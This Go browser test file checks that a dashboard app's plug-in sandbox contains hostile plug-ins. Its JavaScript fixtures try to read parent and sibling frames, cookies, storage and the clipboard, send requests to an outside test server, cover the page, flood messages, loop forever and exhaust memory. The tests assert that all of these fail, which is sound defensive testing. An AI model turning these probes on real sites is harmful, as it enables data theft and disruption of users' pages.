//go:build !js

package e2e

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/tensorbored/tensorbored-static/wasm/browsertest"
)

// trying is what hostile front ends begin with: tryAll writes of each of tries whether it reached something, relay says
// hello to the viewer by way of another plug-in, picture loads an address as an image.
const trying = `
const relay = () => new Promise((yes, no) => {
		for (let i = 0; i < parent.frames.length; i++) {
			const c = new MessageChannel();
			c.port1.onmessage = yes;
			if (parent.frames[i] !== window) parent.frames[i].postMessage("tensorbored.plugin", "*", [c.port2]);
		}
		setTimeout(() => no(new Error("nobody answers")), 500);
	});
const picture = (src) => new Promise((yes, no) => {
	const i = new Image();
	i.onload = yes;
	i.onerror = () => no(new Error("refused"));
	i.src = src;
});
const tryAll = async (out, tries) => {
	for (const [name, f] of Object.entries(tries)) {
		try {
			await f();
			out.textContent += name + ": REACHED\n";
		} catch (e) {
			out.textContent += name + ": no\n";
		}
	}
};
`

// elsewhere is a server of somebody else, and what it was asked for.
func elsewhere(t *testing.T) (url string, asked func() []string) {
	var mu sync.Mutex
	var paths []string
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		paths = append(paths, r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(s.Close)
	return s.URL, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(paths)
	}
}

// reaching is a front end that tries to reach what is not its own, and writes what came of it.
const reaching = `
const tries = {
	parent: () => parent.document.title,
	top: () => top.document.body.innerHTML,
	sibling: () => [...Array(parent.frames.length).keys()].map((i) => parent.frames[i]).filter((f) => f !== window).map((f) => f.document.title).join(),
	relayed: () => relay(),
	storage: () => localStorage.length,
	session: () => sessionStorage.length,
	cookie: () => document.cookie,
	database: () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = () => no(r.error); }),
	caches: () => caches.keys(),
	logs: async () => (await fetch(new URL("/data/listing.json", location.href))).text(),
	logsHidden: () => picture("/data/listing.json"),
	fetch: async () => (await fetch("OUTSIDE/fetch", {mode: "no-cors"})).type,
	xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", "OUTSIDE/xhr"); x.onload = yes; x.onerror = () => no(new Error("refused")); x.send(); }),
	image: () => picture("OUTSIDE/image.png"),
	script: () => import("OUTSIDE/script.js"),
	beacon: () => { navigator.sendBeacon("OUTSIDE/beacon", "x"); throw new Error("nobody is told"); },
	socket: () => new Promise((yes, no) => { const w = new WebSocket("OUTSIDE/socket".replace("http", "ws")); w.onopen = yes; w.onerror = () => no(new Error("refused")); }),
	frame: () => new Promise((_, no) => { const f = document.createElement("iframe"); f.src = "OUTSIDE/frame"; document.body.append(f); setTimeout(() => no(new Error("nobody is told")), 300); }),
	clipboard: () => navigator.clipboard.readText(),
	write: () => navigator.clipboard.writeText("stolen"),
	popup: () => { if (window.open("OUTSIDE/popup")) return "opened"; throw new Error("refused"); },
	leave: () => { top.location.href = "OUTSIDE/leave"; return "set"; },
	worker: () => new Promise((yes, no) => {
		const w = new Worker(URL.createObjectURL(new Blob(["fetch('OUTSIDE/worker',{mode:'no-cors'}).then(()=>postMessage(1),()=>postMessage(0))"])));
		w.onmessage = (e) => e.data ? yes() : no(new Error("refused"));
	}),
	prototype: async () => { await tensorbored.data.constructor({}); },
	unknown: async () => { await tensorbored.data.__proto__({}); },
};
export async function render() {
	const out = document.body.appendChild(document.createElement("pre"));
	const over = document.body.appendChild(document.createElement("div"));
	over.textContent = "over";
	over.style.cssText = "position:fixed;inset:-2000px;z-index:2147483647;background:#f00;opacity:.2";
	await tryAll(out, tries);
	alert("stop");
	out.textContent += "done\n";
}`

// slowly is a page that takes a millisecond for each message of a plug-in, as one does on a machine under load: a flood of
// 10,000 in a second comes to it as fewer than 2000.
const slowly = `if (parent === window) {
	const was = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
	Object.defineProperty(MessagePort.prototype, "onmessage", {...was, set(f) {
		was.set.call(this, f && ((e) => {
			if (e.data?.op === "pong") {
				globalThis.pongs = (globalThis.pongs ?? 0) + 1;
				if (globalThis.deaf) return;
			}
			if (e.data?.op === "state") for (const until = performance.now() + 1; performance.now() < until;);
			return f.call(this, e);
		}));
	}});
}`

// A hostile front end reads nothing but the logs, reaches nobody, and draws over nothing; one
// that floods the page is stopped, one that never ends holds up nobody.
func TestPageHostileFront(t *testing.T) {
	t.Parallel()
	l := greeted(t)
	other, asked := elsewhere(t)
	evil := written(t, "evil", "", map[string]string{"index.js": trying + strings.ReplaceAll(reaching, "OUTSIDE", other)})
	// So many at once are too many on a machine of any speed: the page counts them between marks of the sender's time.
	flood := written(t, "flood", "", map[string]string{"index.js": `export function render() {
		document.body.textContent = "flooding";
		setInterval(() => { for (let i = 0; i < 5000; i++) tbPlugin.port.postMessage({op: "state", id: i}); }, 500);
	}`})
	fails := written(t, "fails", "", map[string]string{"index.js": `export function render() { throw new Error("as it is told to"); }`})
	loop := written(t, "forever", "", map[string]string{"index.js": `export function render() { document.body.textContent = "begins"; setTimeout(() => { for (;;); }, 200); }`})
	for _, kind := range browsertest.Kinds {
		t.Run(string(kind), func(t *testing.T) {
			s := comesWhole(t, kind, plugged(t, l.dir, evil, flood, fails, loop, example(t, "greetings")))
			s.Before(slowly)
			s.Allow("")               // what is refused is said on the console
			s.fresh("#example_basic") // a sibling to look at
			s.tells("Hello, Alice!, Hello, Bob!")
			s.Control("button", "evil").Click()
			s.tells("done")
			var text string
			s.Eval(`seen.text`, &text)
			if strings.Contains(text, "REACHED") || strings.Count(text, ": no") != 25 {
				t.Errorf("a plug-in reached something:\n%s", text)
			}
			if list := asked(); len(list) != 0 {
				t.Errorf("requests went elsewhere: %q", list)
			}
			s.Wait(`location.hash === "#evil" && document.elementFromPoint(innerWidth / 2, 20).closest("header.top") && !document.elementFromPoint(20, 300).closest("iframe")`)

			said := func(text string) {
				t.Helper()
				s.Wait(`document.querySelector(".plugin-hold:not([hidden])").innerText.includes(` + quote(text) + `)`)
			}
			for _, c := range [][2]string{{"flood", "The plug-in flood was stopped: it sent more than 2000 messages in a second."}, {"fails", "The plug-in could not be shown: as it is told to"}} {
				s.Control("button", c[0]).Click()
				said(c[1])
				// That another one gives its turn back late is said meanwhile.
				s.Eval(`globalThis.deaf = true`, nil)
				said("has not given its turn back for some seconds")
				s.Eval(`globalThis.deaf = false`, nil)
				said(c[1])
			}
			s.Control("button", "Greetings").Click()
			s.tells("Hello, Alice!, Hello, Bob!")
			// One that was stopped is not waited for.
			s.Eval(`globalThis.pongs = 0`, nil)
			s.Wait(`globalThis.pongs >= 16 && document.querySelector(".plugin-hold:not([hidden])").innerText === ""`) // of this one and evil, each once in a second
			if kind == browsertest.Firefox {
				return // there a frame of opaque origin shares its thread with the page
			}
			s.Control("button", "forever").Click()
			s.tells("begins")
			s.Control("button", "Time series").Click()
			s.Wait(`document.querySelector("article.card canvas")`)
			s.Eval(`seen.text = ""`, nil)
			s.Control("button", "Greetings").Click()
			said("The plug-in forever has not given its turn back")
			s.Control("button", "End it").Click()
			s.tells("Hello, Alice!, Hello, Bob!")
			s.Control("button", "forever").Click()
			said("The plug-in forever was stopped")
		})
	}
}

// Where a static host sends no headers with a plug-in's documents, its frame alone keeps a hostile one apart.
func TestPageHostileHosted(t *testing.T) {
	t.Parallel()
	l := greeted(t)
	other, asked := elsewhere(t)
	evil := written(t, "evil", "", map[string]string{"index.js": trying + strings.ReplaceAll(reaching, "OUTSIDE", other)})
	sibling := written(t, "sibling", "", map[string]string{"index.js": `export function render() { document.body.textContent = "here"; }`})
	dir := browsertest.Pages(t, l.dir, "--plugin_dir", evil, "--plugin_dir", sibling)
	for _, name := range []string{"evil", "sibling"} {
		entry := filepath.Join(dir, "plugins", name, "tensorbored_entry.html")
		document, err := os.ReadFile(entry)
		if err != nil {
			t.Fatal(err)
		}
		put(t, entry, append(document, telling...))
	}
	for _, kind := range browsertest.Kinds {
		t.Run(string(kind), func(t *testing.T) {
			s := &screen{view: start(t, kind), url: browsertest.StaticHost(t, dir)}
			s.Resize(2000, 900) // all tabs have room
			s.Before(hearing + seeing)
			s.Allow("") // what is refused is said on the console
			s.fresh("#sibling")
			s.tells("here")
			s.Control("button", "evil").Click()
			s.tells("done")
			var text string
			s.Eval(`seen.text`, &text)
			if strings.Contains(text, "REACHED") || strings.Count(text, ": no") != 25 {
				t.Errorf("a plug-in reached something:\n%s", text)
			}
			if list := asked(); len(list) != 0 {
				t.Errorf("requests went elsewhere: %q", list)
			}
			s.Wait(`location.hash === "#evil"`)
		})
	}
}

// A hostile back end (it never ends, takes 4 GB, throws, answers nonsense) is ended and begun
// anew; the page and other plug-ins go on.
func TestPageHostileBack(t *testing.T) {
	t.Parallel()
	l := greeted(t)
	evil := written(t, "evil", `, "routes": ["/*"], "backend": {"type": "module", "path": "/back.js"}`, map[string]string{
		"index.js": `export function render() {
			document.body.textContent = "ready";
			const ask = async (path) => {
				let text;
				try { const a = await fetch("." + path); text = a.status + " " + await a.text(); } catch (e) { text = "error " + e.message; }
				document.body.append(" | " + path + ": " + text);
			};
			tensorbored.on("theme", () => {});
			(async () => { for (const p of ["/fine", "/throws", "/odd", "/many", "/memory", "/fine", "/reach"]) await ask(p); ask("/loop"); })();
		}`,
		"back.js": `const keep = [];
		export async function request({path}, data) {
			const text = (t) => ({status: 200, headers: {}, body: new TextEncoder().encode(t).buffer});
			switch (path) {
			case "/fine": return text("fine");
			case "/throws": throw new Error("thrown");
			case "/odd": return 7;
			case "/many": {
				const all = await Promise.allSettled(Array.from({length: 10000}, () => data.list_runs()));
				return text(all.filter((a) => a.status === "fulfilled").length + " of 10000");
			}
			case "/memory":
				try { for (let i = 0; i < 4; i++) keep.push(new ArrayBuffer(2 ** 30)); new Uint8Array(keep[0]).fill(1, 0, 2 ** 28); } catch (e) {}
				return text("took");
			case "/reach": {
				const out = [];
				for (const f of [() => indexedDB.open("x"), () => caches.keys(), () => fetch("/data/listing.json"), () => importScripts("https://example.invalid/x.js")]) {
					try { const v = await f(); out.push(v?.onerror === null ? "no" : "REACHED"); } catch { out.push("no"); }
				}
				return text(out.join());
			}
			case "/loop": for (;;);
			}
		}`,
	})
	wasm := written(t, "broken", `, "routes": ["/x"], "backend": {"type": "wasip1", "path": "/back.wasm"}`, map[string]string{
		"index.js": `export async function render() { document.body.textContent = await (await fetch("./x")).text(); }`, "back.wasm": "this is no program"})
	for _, kind := range browsertest.Kinds {
		t.Run(string(kind), func(t *testing.T) {
			s := comes(t, kind, plugged(t, l.dir, evil, wasm, example(t, "greetings")))
			s.Allow("")
			s.fresh("#evil")
			for _, text := range []string{"/fine: 200 fine", "/throws: 502 thrown", "/odd: 502", "of 10000", "/memory: 200 took", "/reach: 200 no,no,no,no"} {
				s.tells(text)
			}
			// It hangs now: other plug-ins and dashboards are as quick as ever.
			s.Control("button", "Greetings").Click()
			s.tells("Hello, Alice!, Hello, Bob!")
			s.Control("button", "evil").Click()
			end := s.Control("button", "End it and start again")
			end.Is(`e`)
			s.Eval(`seen.text = ""`, nil) // what it said before it hung
			end.Click()
			s.Wait(`seen.text.split("/fine: 200 fine").length >= 3 && seen.text.includes("/reach")`)
			s.Control("button", "broken").Click()
			s.Wait(`document.querySelector(".plugin-hold:not([hidden])").innerText.includes("This plug-in is inactive: its back end says:")`)
			s.Control("button", "Time series").Click()
			s.Wait(`document.querySelector("article.card canvas")`)
		})
	}
}
